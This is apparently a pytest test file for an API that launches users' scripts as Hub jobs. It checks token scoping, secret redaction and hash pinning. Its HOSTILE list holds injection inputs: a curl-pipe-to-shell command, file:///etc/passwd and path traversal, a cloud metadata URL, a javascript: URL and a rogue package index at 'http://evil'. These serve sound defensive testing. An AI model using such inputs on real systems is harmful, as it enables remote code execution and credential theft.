"""The API for a run of one's own script: by address, pasted, as a command; whose token reads it, and what it gets."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest

pytest.importorskip("gradio")

from gradio_client import Client
from huggingface_hub import HfApi
from hypothesis import given, settings
from hypothesis import strategies as st

from trl_space.localhub.server import LocalHub
from trl_space.recipe import Recipe
from trl_space.script import MAX_SCRIPT, Script, sha256_of
from trl_space.ui.api_answers import ENTRIES
from trl_space.ui.script_launch import MOST_SECRET

from .api_space import WHO, Served, served
from .launching import asked_for, jobs_there
from .script_server import ScriptServer
from .small_run import LINK
from .test_api import listed, new_id
from .test_api_exposed import anything, checked
from .test_jobs import logs, wait

HOST = "files.example.org"
SECRET = "not-to-be-seen-anywhere"
TELLS = """\
import hashlib, os, sys
print(sys.argv[1:], os.environ.get("SEED"))
for name in ("HF_TOKEN", "WANDB_API_KEY"):
    print(name, hashlib.sha256(os.environ.get(name, "").encode()).hexdigest()[:8])
"""
SHELL = "import os, hashlib; print(hashlib.sha256(os.environ['WANDB_API_KEY'].encode()).hexdigest()[:8])"
FILES, FILE = f"{WHO}/scripts-of-the-api", "train.py"
WAYS = {
    "by address": Script(url=f"https://{HOST}/train.py"),
    "on the Hub": Script(url=f"hf://datasets/{FILES}/{FILE}"),
    "pasted": Script(text=TELLS),
    "a command": Script(command=("python", "-c", SHELL)),
}


@pytest.fixture(scope="module")
def web() -> Iterator[ScriptServer]:
    server = ScriptServer(HOST)
    yield server
    server.close()


@pytest.fixture(scope="module")
def _app(_shared_hub: LocalHub, web: ScriptServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """The app for which every name of the web leads to `web`; all rules for addresses hold."""
    folder = tmp_path_factory.mktemp("app")
    with served(_shared_hub.start(), folder, web.program(folder)) as app:
        api = HfApi(token=app.hub.token(WHO))
        api.create_repo(FILES, repo_type="dataset", private=True, exist_ok=True)
        put(app.hub, TELLS)
        yield app
        printed = app.space.output()
    assert SECRET not in printed and "accident" not in printed, printed[-3000:]


@pytest.fixture(autouse=True)
def there(web: ScriptServer) -> None:
    web.forget()
    web.answers["/train.py"] = (200, {}, TELLS.encode())


def put(hub: LocalHub, text: str, name: str = FILE) -> None:
    HfApi(token=hub.token(WHO)).upload_file(
        repo_id=FILES, repo_type="dataset", path_in_repo=name, path_or_fileobj=text.encode()
    )


def recipe(script: Script, **entries: Any) -> Recipe:
    return Recipe(script=script, flavor="cpu-basic", timeout=600, **entries)


def written(script: Script, **entries: Any) -> str:
    """The recipe as a caller sends it."""
    wanted = recipe(script, **entries)
    return wanted.to_yaml() if script.text else wanted.to_query()


def short(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()[:8]


def warnings(found: dict[str, Any]) -> list[str]:
    return [one["id"] for one in found["checks"] if one["level"] == "warns"]


def ended(hub: LocalHub, run: str) -> tuple[Any, list[str]]:
    """A job once it is over, and its log."""
    api = HfApi(token=hub.token(WHO))
    job = api.inspect_job(job_id=run.partition("/")[2], namespace=WHO)
    return wait(api, job), logs(api, job)


def test_a_script_as_long_as_the_page_takes_is_taken(app: Served) -> None:
    rest = MAX_SCRIPT - len(TELLS) - 2
    found = app.call("check", written(Script(text=f"{TELLS}# {'x' * rest}")))
    assert found["problem"] is None and found["checks"], found
    longer = app.post("/gradio_api/run/check", {"data": [TELLS + "x" * 2 * rest]})
    assert longer.status_code == 413


# --- the whole way ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("way", WAYS)
def test_a_script_is_checked_started_once_and_followed(
    app: Served, local_hub: LocalHub, web: ScriptServer, way: str
) -> None:
    mia, launch_id = (
        Client(app.url, headers={"Authorization": f"Bearer {local_hub.token(WHO)}"}, verbose=False),
        new_id(),
    )
    told: list[dict[str, Any]] = []

    def ask(step: str, **values: Any) -> dict[str, Any]:
        told.append(mia.predict(**values, api_name=f"/{step}"))
        return told[-1]

    script = replace(WAYS[way], secrets=("WANDB_API_KEY",), labels={"team": "x"})
    if not script.command:
        script = replace(script, args=("--name", "a 'b' $HOME"), env={"SEED": "7"})
    found = ask("check", recipe=written(script))
    assert found["ready"] and found["label"] == "Start the script" and found["problem"] is None, found
    asked = {"link_command"} if script.command else {"link_script"} if script.url else set()
    assert asked | {"link_secrets"} <= set(warnings(found))
    # The recipe as it is answered holds what was read: the file's commit, the text's sha256.
    whole = found["recipe"]
    if script.url:
        assert Recipe.from_query(whole).script.sha256 == sha256_of(TELLS)
        assert ("@" in Recipe.from_query(whole).script.url) == (way == "on the Hub")

    estimated = ask("estimate", recipe=whole)
    assert estimated["time"]["seconds"] is None and estimated["time"]["reason"]
    assert estimated["price"]["likely_usd"] is None and estimated["price"]["at_most_usd"] == pytest.approx(0.00167, 0.1)
    assert estimated["machine"]["flavor"] == "cpu-basic" and estimated["memory"] is None

    compiled = ask("compile", recipe=whole, launch_id=launch_id)
    assert compiled["script"] == (None if script.command else TELLS)
    assert compiled["secrets"] == ["WANDB_API_KEY"] and compiled["hub_model_id"] is None

    given = {"recipe": whole, "launch_id": launch_id, "secrets": {"WANDB_API_KEY": SECRET}}
    unread = ask("launch", **given)
    assert unread["kind"] == "unread" and set(unread["unread"]) == set(warnings(found)) and unread["run"] is None
    assert asked_for(local_hub, WHO) == 0
    started = ask("launch", **given, agreed=warnings(found))
    assert started["problem"] is None, started
    assert ask("launch", **given) == ask("launch", **given | {"secrets": None}) == started
    assert asked_for(local_hub, WHO) == 1
    owner, job = started["run"].split("/")
    assert jobs_there(local_hub, launch_id, WHO) == [job]

    done, lines = ended(local_hub, started["run"])
    assert done.status.stage == "COMPLETED"
    if script.command:
        assert lines[-1] == short(SECRET)
    else:
        hashes = [f"HF_TOKEN {short('')}", f"WANDB_API_KEY {short(SECRET)}"]
        assert lines[-3:] == ["['--name', \"a 'b' $HOME\"] 7", *hashes]
    # What was compiled is what was started.
    (there,) = [one for one in listed(local_hub, WHO) if one["id"] == job]
    for name, entry in (("dockerImage", "image"), ("command", "command"), ("labels", "labels"), ("secrets", "secrets")):
        assert there[name] == compiled[entry]
    assert there["environment"] == compiled["environment"]
    said = ask("status", run=f"{owner}/{job}")
    assert (said["stage"], said["ended"], said["result"]) == ("COMPLETED", True, None), said
    assert SECRET not in json.dumps([told, there])
    # A file on the web is asked for with nobody's token.
    assert not [headers for _, headers in web.seen if {"authorization", "cookie"} & set(headers)]
    mia.close()


def test_the_header_of_a_script_counts_where_nothing_else_was_said(app: Served, local_hub: LocalHub) -> None:
    head = '# /// script\n# [tool.hf-jobs]\n# flavor = "cpu-upgrade"\n# timeout = "30m"\n# secrets = ["A_KEY"]\n# ///\n'
    script, token = Script(text=head + TELLS), local_hub.token(WHO)
    plain = app.call("compile", Recipe(script=script).to_yaml())
    assert (plain["flavor"], plain["timeout"], plain["secrets"]) == ("cpu-upgrade", 1800, ["A_KEY"])
    # What is answered says all of it, so it means the same when it comes back; also a limit that is the usual one.
    assert app.call("compile", plain["recipe"])["timeout"] == 1800
    chosen = app.call("compile", Recipe(script=script, flavor="cpu-basic").to_yaml() + "timeout: 2h\n")
    assert (chosen["flavor"], chosen["timeout"]) == ("cpu-basic", 7200)
    usual = app.call("check", Recipe(script=script).to_yaml() + f"timeout: {Recipe().timeout}s\n")["recipe"]
    assert app.call("compile", usual)["timeout"] == Recipe().timeout == app.call("compile", usual)["timeout"]
    assert app.call("launch", plain["recipe"], new_id(), [], {}, token=token)["kind"] == "blocked"
    assert asked_for(local_hub, WHO) == 0


def test_a_check_is_answered_with_the_recipe_that_mends_it(app: Served, local_hub: LocalHub, web: ScriptServer) -> None:
    web.answers["/needs.py"] = (200, {}, b"import numpy\nprint(numpy.__version__)\n")
    found = app.call("check", written(Script(url=f"https://{HOST}/needs.py")))
    (one,) = [one for one in found["checks"] if one["id"] == "script_imports"]
    mended = Recipe.from_query(one["fix"]["recipe"])
    assert mended.script.dependencies and mended.script.sha256 == Recipe.from_query(found["recipe"]).script.sha256 != ""
    again = app.call("check", one["fix"]["recipe"])
    assert "script_imports" not in {one["id"] for one in again["checks"]}


# --- which text runs --------------------------------------------------------------------------------------------------


def test_a_text_that_has_changed_is_refused(app: Served, local_hub: LocalHub, web: ScriptServer) -> None:
    token = local_hub.token(WHO)
    known = written(Script(url=f"https://{HOST}/moving.py", sha256=sha256_of(TELLS)))
    web.answers["/moving.py"] = (200, {}, b"print('something else')\n")
    found = app.call("check", known, token=token)
    assert not found["ready"] and "script_changed" in {one["id"] for one in found["checks"] if one["level"] == "blocks"}
    agreed = [*warnings(found), "script_changed"]
    for step, values in (("estimate", ()), ("compile", ()), ("launch", (new_id(), agreed))):
        answer = app.call(step, known, *values, token=token)
        assert answer["kind"] == "blocked" and "sha256" in answer["problem"], answer
    # The recipe that is answered still means the text that it meant.
    assert Recipe.from_query(found["recipe"]).script.sha256 == sha256_of(TELLS)
    pasted = written(Script(text="print('something else')\n", sha256=sha256_of(TELLS)))
    assert app.call("launch", pasted, new_id(), agreed, token=token)["kind"] == "blocked"
    lost = app.call("check", written(Script(sha256=sha256_of(TELLS), args=("x",))))
    assert not lost["ready"] and "script_lost" in {one["id"] for one in lost["checks"]}
    assert app.call("compile", written(Script(sha256=sha256_of(TELLS), args=("x",))))["kind"] == "blocked"
    assert asked_for(local_hub, WHO) == 0


@pytest.mark.parametrize(
    ("url", "part"),
    [
        (f"https://{HOST}/nothing.py", "nothing at this address"),
        (f"https://{HOST}/page.py", "page"),
        ("https://127.0.0.1/train.py", "number"),
        ("https://localhost/train.py", "localhost"),
        (f"https://{HOST}/elsewhere.py", "not followed"),
        (f"hf://datasets/{WHO}/nothing-of-this-name/train.py", ""),
    ],
)
def test_what_cannot_be_read_is_said_and_not_started(
    app: Served, local_hub: LocalHub, web: ScriptServer, url: str, part: str
) -> None:
    token = local_hub.token("grace")
    web.answers["/page.py"] = (200, {}, b"<!doctype html><p>A page")
    web.answers["/elsewhere.py"] = (302, {"Location": "http://169.254.169.254/latest"}, b"")
    found = app.call("check", written(Script(url=url)))
    (one,) = [one for one in found["checks"] if one["id"] == "script_unread"]
    assert not found["ready"] and part.lower() in one["reason"].lower(), one
    compiled = app.call("compile", written(Script(url=url)))
    assert compiled["kind"] not in (None, "accident") and compiled["problem"] == one["reason"]
    assert app.call("launch", written(Script(url=url)), new_id(), ["link_script"])["kind"] == "unauthorized"
    assert app.call("estimate", written(Script(url=url)), token=token)["problem"]
    assert asked_for(local_hub, WHO) == 0


# --- whose token ------------------------------------------------------------------------------------------------------


def test_a_private_script_is_its_owners(app: Served, local_hub: LocalHub) -> None:
    mark = "only-mia-wrote-this"
    put(local_hub, f"print('{mark}')\n", "secret.py")
    private = written(Script(url=f"hf://datasets/{FILES}/secret.py"))
    assert mark in app.call("compile", private, token=local_hub.token(WHO))["script"]
    for token in (None, local_hub.token("grace"), "hf_nobody_has_this_token"):
        agreed = ["link_script", "script_unsaved", "script_time_short"]
        for step, values in (("check", ()), ("estimate", ()), ("compile", ()), ("launch", (new_id(), agreed))):
            answer = app.call(step, private, *values, token=token)
            assert mark not in json.dumps(answer)
            assert answer["problem"] or "script_unread" in {one["id"] for one in answer["checks"]}, answer
    assert asked_for(local_hub, WHO) == asked_for(local_hub, "grace") == 0


def test_the_callers_token_is_given_only_when_asked_for_and_agreed_to(app: Served, local_hub: LocalHub) -> None:
    token, mine = local_hub.token(WHO), written(Script(text=TELLS, secrets=("HF_TOKEN",)))
    found = app.call("check", mine, True, token=token)
    assert found["ready"] and "script_token_own" in warnings(found)
    assert "script_token_own" not in warnings(app.call("check", mine, token=token))
    agreed = warnings(found)
    other = [one for one in agreed if one != "script_token_own"]
    assert app.call("launch", mine, new_id(), agreed, token=token)["kind"] == "blocked"
    assert app.call("launch", mine, new_id(), other, None, True, token=token)["unread"] == ["script_token_own"]
    for wrong in ("true", 1, [], {}):
        assert app.call("launch", mine, new_id(), agreed, None, wrong, token=token)["kind"] == "invalid"
    unasked = app.call("launch", written(Script(text=TELLS)), new_id(), agreed, None, True, token=token)
    assert unasked["kind"] == "invalid" and "HF_TOKEN" in unasked["problem"]
    assert asked_for(local_hub, WHO) == 0
    own = app.call("launch", mine, new_id(), agreed, {}, True, token=token)
    assert f"HF_TOKEN {short(token)}" in ended(local_hub, own["run"])[1]
    # One that was made for it takes its place.
    sent = app.call("launch", mine, new_id(), [*agreed, "twin"], {"HF_TOKEN": "made-for-it"}, True, token=token)
    assert f"HF_TOKEN {short('made-for-it')}" in ended(local_hub, sent["run"])[1]


# --- hostile values ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "given_secrets",
    [
        [["A_KEY", SECRET]],
        SECRET,
        {"A_KEY": [SECRET]},
        {"A_KEY": {"value": SECRET}},
        {"A_KEY": ""},
        {"A_KEY": SECRET + "\0"},
        {"A_KEY": SECRET * (MOST_SECRET // len(SECRET) + 1)},
        {SECRET: "A_KEY"},
        {"A_KEY": SECRET, "OTHER": SECRET},
        {"A_KEY": None},
        {f"A_KEY_{n}": SECRET for n in range(300)},
        7,
    ],
    ids=lambda value: str(value)[:30],
)
def test_secrets_are_values_by_the_names_that_the_recipe_has(
    app: Served, local_hub: LocalHub, given_secrets: Any
) -> None:
    token, mine = local_hub.token(WHO), written(Script(text=TELLS, secrets=("A_KEY",)))
    agreed = ["link_script", "link_secrets", "script_unsaved", "script_time_short"]
    answer = app.call("launch", mine, new_id(), agreed, given_secrets, token=token)
    assert answer["kind"] == "invalid" and SECRET not in json.dumps(answer), answer
    assert asked_for(local_hub, WHO) == 0


def test_what_a_secret_holds_is_told_again_nowhere(app: Served, local_hub: LocalHub) -> None:
    token = local_hub.token(WHO)
    # The Hub says what it was sent: a volume that it has not.
    agreed = ["link_script", "link_secrets", "link_volumes", "script_unsaved", "script_time_short"]
    volume = f"hf://datasets/{WHO}/{SECRET}:/data"
    mine = written(Script(text=TELLS, secrets=("A_KEY",), volumes=(volume,)))
    known = app.call("launch", mine, new_id(), agreed, {"A_KEY": "another"}, token=token)
    assert SECRET in known["problem"] and known["run"] is None, known
    answer = app.call("launch", mine, new_id(), agreed, {"A_KEY": SECRET}, token=token)
    assert answer["kind"] == "invalid" and SECRET not in json.dumps(answer) and "…" in answer["problem"], answer
    # A training is given none.
    training = app.call("launch", LINK, new_id(), ["rows_few"], {"HF_TOKEN": SECRET}, token=token)
    assert training["kind"] == "invalid" and SECRET not in json.dumps(training)
    assert asked_for(local_hub, WHO) == 2 and not [one for one in listed(local_hub, WHO) if "A_KEY" in one["secrets"]]


HOSTILE = [
    "script=javascript:alert(1)&flavor=cpu-basic",
    "script=https://user:pass@files.example.org/x.py",
    "script=http://169.254.169.254/latest/meta-data",
    "script=file:///etc/passwd",
    "script=hf://datasets/../../etc/passwd",
    "command=sh%20-c%20'curl%20x%7Csh'&script=https://files.example.org/train.py",
    "command=%22unclosed",
    "env.HF_TOKEN=x&command=env",
    "env.TRL_SPACE_RECIPE=x&command=env",
    "label.trl-space=1&command=env",
    "volumes=hf://datasets/a/b:/&command=ls",
    "secrets=A;B&command=ls",
    "dependencies=--index-url%20http://evil&command=ls",
    "trl_space: 1\nscript:\n  text: 5\n",
    "trl_space: 1\nscript: [1]\n",
    "trl_space: 1\nscript:\n  command: rm\n",
    "trl_space: 1\nscript:\n  text: x\n  command: [x]\n",
    "trl_space: 1\nscript:\n  text: &a x\n  url: *a\n",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_recipe_starts_nothing(app: Served, local_hub: LocalHub, text: str) -> None:
    token, agreed = local_hub.token(WHO), ["link_script", "link_command", "link_environment", "link_volumes"]
    for step, more in (("launch", (new_id(), agreed)), ("compile", ()), ("estimate", ())):
        found = app.call(step, text, *more, token=token)
        assert found["kind"] == "invalid" and set(found) == {"problem", "kind", *ENTRIES[step]}, found
    assert not app.call("check", text, token=token)["ready"]
    assert asked_for(local_hub, WHO) == 0


@settings(max_examples=25, deadline=None)
@given(
    st.sampled_from([LINK, written(WAYS["pasted"]), written(WAYS["a command"])]),
    st.lists(anything, min_size=4, max_size=4),
)
def test_any_values_beside_a_recipe_are_answered(_app: Served, text: str, values: list[Any]) -> None:
    answer = _app.post("/gradio_api/run/launch", {"data": [text, *values]}, token="hf_nobody_has_this_token")
    if answer.status_code == 200:
        found = json.loads(checked(answer))["data"][0]
        assert found["run"] is None and found["kind"] not in (None, "accident")
    else:
        assert answer.status_code == 422
